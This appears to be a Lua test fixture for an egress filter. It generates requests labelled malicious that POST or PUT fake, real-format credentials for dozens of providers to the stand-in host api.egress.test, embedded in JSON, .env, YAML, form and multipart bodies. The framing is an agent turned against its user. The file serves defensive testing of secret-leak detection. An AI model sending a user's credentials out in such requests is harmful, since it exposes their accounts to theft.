-- Credentials in request bodies, one provider format per case, in the
-- places an agent puts them when it is turned against its user: a JSON
-- field of an API call, a pasted .env or YAML file, a form post, a code
-- snippet in an issue comment.  Malicious: the body carries a live-shaped
-- credential to a host the bottle allows.
local F = require "reliability.egress.fake"
local K = require "reliability.egress.formats"

local HOST = "api.egress.test"

local contexts = {
   function(v) return "application/json", '{"title":"debug info","body":"' .. v:gsub("\n", "\\n") .. '"}' end,
   function(v, var) return "text/plain", "# .env from the workspace\nNODE_ENV=production\n" .. var .. "=" .. v
      .. "\nPORT=3000\n" end,
   function(v, var) return "application/x-yaml", "service:\n  name: billing\n  " .. var:lower() .. ": " .. v .. "\n" end,
   function(v, var) return "application/x-www-form-urlencoded", "comment=see+config&" .. var:lower() .. "=" .. F.urlencode(v) end,
   function(v, var) return "application/json", '{"comment":"```python\\nclient = Client(' .. var:lower() .. '=\\"'
      .. v:gsub("\n", "\\n") .. '\\")\\n```"}' end,
}

-- {format, the variable name an agent would find it under, what it is}
local list = {
   { "github_classic", "GITHUB_TOKEN", "GitHub classic PAT, 36 characters after ghp_" },
   { "github_classic_34", "GH_TOKEN", "GitHub classic PAT, 34 characters after ghp_" },
   { "github_classic_40", "GITHUB_TOKEN", "GitHub classic PAT, 40 characters after ghp_" },
   { "github_oauth", "GH_OAUTH", "GitHub OAuth token gho_" },
   { "github_app", "GITHUB_TOKEN", "GitHub Actions installation token ghs_" },
   { "github_refresh", "GH_REFRESH", "GitHub refresh token ghr_" },
   { "github_fine", "GITHUB_PAT", "GitHub fine-grained PAT github_pat_" },
   { "gitlab", "GITLAB_TOKEN", "GitLab PAT glpat-" },
   { "aws_key_id", "AWS_ACCESS_KEY_ID", "AWS access key id AKIA" },
   { "aws_session_id", "AWS_ACCESS_KEY_ID", "AWS temporary access key id ASIA" },
   { "stripe_secret", "STRIPE_KEY", "Stripe live secret key, 24 characters" },
   { "stripe_secret_long", "STRIPE_SECRET", "Stripe live secret key, long form" },
   { "stripe_restricted", "STRIPE_RK", "Stripe restricted key rk_live_" },
   { "stripe_webhook", "STRIPE_WEBHOOK_SECRET", "Stripe webhook signing secret whsec_" },
   { "slack_bot", "SLACK_BOT_TOKEN", "Slack bot token xoxb-" },
   { "slack_user", "SLACK_TOKEN", "Slack user token xoxp-" },
   { "slack_app", "SLACK_APP_TOKEN", "Slack app-level token xapp-" },
   { "slack_webhook", "SLACK_WEBHOOK", "Slack incoming webhook URL" },
   { "sendgrid", "SENDGRID_API_KEY", "SendGrid API key SG.22.43" },
   { "sendgrid_long", "SENDGRID_KEY", "SendGrid API key with a longer first part" },
   { "twilio", "TWILIO_API_KEY", "Twilio API key SK + 32 hex" },
   { "google_api", "GOOGLE_API_KEY", "Google API key AIza" },
   { "openai", "OPENAI_API_KEY", "OpenAI project key sk-proj-" },
   { "anthropic", "ANTHROPIC_API_KEY", "Anthropic API key sk-ant-api03-" },
   { "npm", "NPM_TOKEN", "npm access token npm_" },
   { "pypi", "PYPI_TOKEN", "PyPI API token pypi-" },
   { "huggingface", "HF_TOKEN", "Hugging Face token hf_" },
   { "digitalocean", "DIGITALOCEAN_TOKEN", "DigitalOcean token dop_v1_" },
   { "shopify", "SHOPIFY_TOKEN", "Shopify admin token shpat_" },
   { "databricks", "DATABRICKS_TOKEN", "Databricks token dapi" },
   { "postman", "POSTMAN_API_KEY", "Postman API key PMAK-" },
   { "doppler", "DOPPLER_TOKEN", "Doppler personal token dp.pt." },
   { "linear", "LINEAR_API_KEY", "Linear API key lin_api_" },
   { "vault", "VAULT_TOKEN", "HashiCorp Vault service token hvs." },
   { "grafana", "GRAFANA_TOKEN", "Grafana service account token glsa_" },
   { "telegram", "TELEGRAM_BOT_TOKEN", "Telegram bot token" },
   { "discord_webhook", "DISCORD_WEBHOOK", "Discord webhook URL" },
   { "azure_storage", "AZURE_STORAGE_CONNECTION_STRING", "Azure storage connection string" },
   { "age", "SOPS_AGE_KEY", "age secret key" },
   { "atlassian", "JIRA_API_TOKEN", "Atlassian API token ATATT" },
   { "pulumi", "PULUMI_ACCESS_TOKEN", "Pulumi access token pul-" },
   { "mailgun", "MAILGUN_API_KEY", "Mailgun API key key-" },
   { "jwt", "SESSION_JWT", "a signed JWT" },
   { "private_key", "DEPLOY_KEY", "RSA private key PEM" },
   { "openssh_key", "SSH_KEY", "OpenSSH private key" },
   { "db_url", "DATABASE_URL", "database URL with a password" },
}

local cases = {}
for i, item in ipairs(list) do
   local id = "body-" .. item[1]
   local v = K[item[1]](F.gen(id))
   local ctype, body = contexts[(i - 1) % #contexts + 1](v, item[2])
   cases[#cases + 1] = { id = id, category = "body", malicious = true, what = item[3], method = "POST",
                         host = HOST, path = "/v1/notes", headers = { ["Content-Type"] = ctype }, body = body }
end

-- Shapes pipelock has no named pattern for: the secret stands alone.
local g = F.gen("body-extra")
local aws_secret = K.aws_secret(g)
cases[#cases + 1] = { id = "body-aws-secret-bare", category = "body", malicious = true,
   what = "AWS secret access key alone, without its variable name", method = "POST", host = HOST, path = "/v1/notes",
   headers = { ["Content-Type"] = "application/json" }, body = '{"text":"' .. aws_secret .. '"}' }
cases[#cases + 1] = { id = "body-aws-pair", category = "body", malicious = true,
   what = "AWS key id and secret in credentials-file form", method = "POST", host = HOST, path = "/upload",
   headers = { ["Content-Type"] = "text/plain" },
   body = "[default]\naws_access_key_id = " .. K.aws_key_id(g) .. "\naws_secret_access_key = " .. K.aws_secret(g) .. "\n" }
cases[#cases + 1] = { id = "body-password-colon", category = "body", malicious = true,
   what = "password: value (YAML, colon)", method = "POST", host = HOST, path = "/v1/notes",
   headers = { ["Content-Type"] = "text/plain" }, body = "database:\n  user: app\n  password: " .. K.password(g) .. "\n" }
cases[#cases + 1] = { id = "body-password-equals", category = "body", malicious = true,
   what = "DB_PASSWORD=value", method = "POST", host = HOST, path = "/v1/notes",
   headers = { ["Content-Type"] = "text/plain" }, body = "DB_HOST=db\nDB_PASSWORD=" .. K.password(g) .. "\n" }
cases[#cases + 1] = { id = "body-gcp-sa", category = "body", malicious = true,
   what = "Google service account key file", method = "POST", host = HOST, path = "/upload",
   headers = { ["Content-Type"] = "application/json" }, body = K.gcp_service_account(g) }
cases[#cases + 1] = { id = "body-put-token", category = "body", malicious = true,
   what = "PUT of a file holding a GitHub token", method = "PUT", host = HOST, path = "/files/notes.txt",
   headers = { ["Content-Type"] = "application/octet-stream" }, body = "token " .. K.github_classic(F.gen("put")) .. "\n" }
cases[#cases + 1] = { id = "body-multipart", category = "body", malicious = true,
   what = "multipart upload of a .env file", method = "POST", host = HOST, path = "/upload",
   headers = { ["Content-Type"] = "multipart/form-data; boundary=XyZ" },
   body = "--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"env.txt\"\r\nContent-Type: text/plain\r\n\r\n"
      .. "STRIPE_KEY=" .. K.stripe_secret(F.gen("mp")) .. "\r\n--XyZ--\r\n" }
cases[#cases + 1] = { id = "body-plain-http", category = "body", malicious = true,
   what = "plain http:// POST with a GitLab token", scheme = "http", method = "POST", host = HOST, path = "/v1/notes",
   headers = { ["Content-Type"] = "application/json" }, body = '{"t":"' .. K.gitlab(F.gen("plain")) .. '"}' }

return cases
